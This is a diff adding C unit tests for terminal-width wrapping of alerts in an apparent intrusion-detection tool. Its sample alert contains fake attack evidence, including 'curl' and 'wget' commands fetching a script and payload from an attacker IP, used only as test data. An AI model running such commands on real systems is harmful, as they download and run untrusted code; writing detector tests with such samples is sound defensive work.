@@ -465,3 +465,124 @@ Test(alert, guessing_is_no_signal_on_the_name_guessed)
     cr_assert(strstr(a.basis, "novelty alone"), "%s", a.basis);
     detectors_free(vg);
 }
+
+/* ---- text for a terminal ---- */
+
+static char *text_width_of(const struct alert *a, bool color, unsigned width)
+{
+    static char out[16384];
+    struct buf b = { 0 };
+    cr_assert_eq(alert_to_text_width(&b, a, color, width), 0);
+    cr_assert_lt(b.len, sizeof(out));
+    memcpy(out, b.p, b.len);
+    out[b.len] = 0;
+    buf_free(&b);
+    return out;
+}
+
+/* The whitespace-separated tokens of s, joined by one space. */
+static void tokens_of(const char *s, char *dst, size_t cap)
+{
+    size_t o = 0;
+    for (const char *p = s; *p;) {
+        while (*p == ' ' || *p == '\n')
+            p++;
+        if (!*p)
+            break;
+        if (o)
+            dst[o++] = ' ';
+        while (*p && *p != ' ' && *p != '\n' && o + 1 < cap)
+            dst[o++] = *p++;
+    }
+    dst[o] = 0;
+}
+
+static struct alert long_alert(void)
+{
+    struct alert a = sample();
+    a.rule = "incident.chain";
+    a.severity = SEV_CRITICAL;
+    a.entity.host = SPAN_LIT("web-1");
+    a.entity.command = SPAN_LIT("curl -s http://203.0.113.45/x.sh");
+    memset(a.message, 0, sizeof(a.message));
+    alert_printf(&a, "incident #5: attack chain of 11 stages for ops-admin from 198.51.100.7 within 22m "
+                     "(threshold 3 stages in 6h): initial-access: auth.login at 03:10 (+3), execution: "
+                     "shell.rare_command at 03:10 (+21), privilege-escalation: auth.sudo_new_command at "
+                     "03:14 (+1), command-and-control: egress.lookalike at 03:21 to 203.0.113.45 (+1), "
+                     "exfiltration: egress.exfil at 03:31 (+2), defense-evasion: shell.history_clear at 03:32");
+    a.nevidence = 0;
+    alert_evidence(&a, SPAN_LIT("Nov 23 03:10:02 web-1 sshd[4242]: Accepted password for ops-admin from "
+                                "198.51.100.7 port 52344 ssh2 with a rather long tail of words after it"));
+    alert_evidence(&a, SPAN_LIT("wget http://203.0.113.45/payload.bin"));
+    return a;
+}
+
+Test(alert, text_for_a_terminal_fits_the_width_and_splits_no_token)
+{
+    struct alert a = long_alert();
+    static char want[16384], got[16384];
+    tokens_of(text_of(&a, false), want, sizeof(want));
+    unsigned widths[] = { 50, 60, 80, 100, 160 };
+    for (size_t k = 0; k < sizeof(widths) / sizeof(widths[0]); k++) {
+        unsigned wd = widths[k];
+        const char *t = text_width_of(&a, false, wd);
+        /* every line fits */
+        for (const char *line = t; *line;) {
+            const char *nl = strchr(line, '\n');
+            size_t len = nl ? (size_t)(nl - line) : strlen(line);
+            cr_assert_leq(len, wd, "width %u: line of %zu columns: %.*s", wd, len, (int)len, line);
+            line += len + (nl != NULL);
+        }
+        /* the same words in the same order as the one-line form: none split */
+        tokens_of(t, got, sizeof(got));
+        cr_assert_str_eq(got, want, "width %u:\n%s", wd, t);
+        /* headline first, the rest indented below it */
+        cr_assert_eq(strncmp(t, "2026-11-23T03:10:00Z CRITICAL incident.chain", 44), 0, "%s", t);
+        cr_assert(strstr(t, "\n    incident #5:") != NULL, "%s", t);
+        cr_assert(strstr(t, "\n    | Nov 23 03:10:02") != NULL, "%s", t);
+        for (const char *p = strchr(t, '\n'); p; p = strchr(p + 1, '\n'))
+            cr_assert_eq(strncmp(p + 1, "    ", 4), 0, "continuation not indented:\n%s", t);
+        /* an entity that does not fit the headline goes on under the severity */
+        if (wd >= 61 && wd < 100)
+            cr_assert(strstr(t, "\n                     ") != NULL, "width %u:\n%s", wd, t);
+    }
+    cr_assert(strstr(text_width_of(&a, false, 80), "203.0.113.45") != NULL);
+}
+
+/* Narrower than a token: the token alone is cut, every line still fits. */
+Test(alert, text_for_a_narrow_terminal_still_fits)
+{
+    struct alert a = long_alert();
+    alert_evidence(&a, SPAN_LIT("GET /a/very/long/path/without/any/space/in/it/at/all/which/is/wider/than/the/line"));
+    const char *t = text_width_of(&a, false, 30);
+    for (const char *line = t; *line;) {
+        const char *nl = strchr(line, '\n');
+        size_t len = nl ? (size_t)(nl - line) : strlen(line);
+        cr_assert_leq(len, 30, "line of %zu columns: %.*s", len, (int)len, line);
+        line += len + (nl != NULL);
+    }
+}
+
+Test(alert, text_width_zero_is_the_one_line_form)
+{
+    struct alert a = long_alert();
+    char *one = strdup(text_of(&a, false));
+    cr_assert_str_eq(text_width_of(&a, false, 0), one);
+    free(one);
+}
+
+Test(alert, text_for_a_terminal_colour_takes_no_columns)
+{
+    struct alert a = sample();
+    const char *t = text_width_of(&a, true, 40);
+    cr_assert(strstr(t, "\033[31mHIGH\033[0m") != NULL, "%s", t);
+}
+
+Test(alert, text_width_from_vigil_columns)
+{
+    setenv("VIGIL_COLUMNS", "72", 1);
+    cr_assert_eq(alert_text_width(), 72);
+    setenv("VIGIL_COLUMNS", "0", 1);
+    cr_assert_eq(alert_text_width(), 0);
+    unsetenv("VIGIL_COLUMNS");
+}
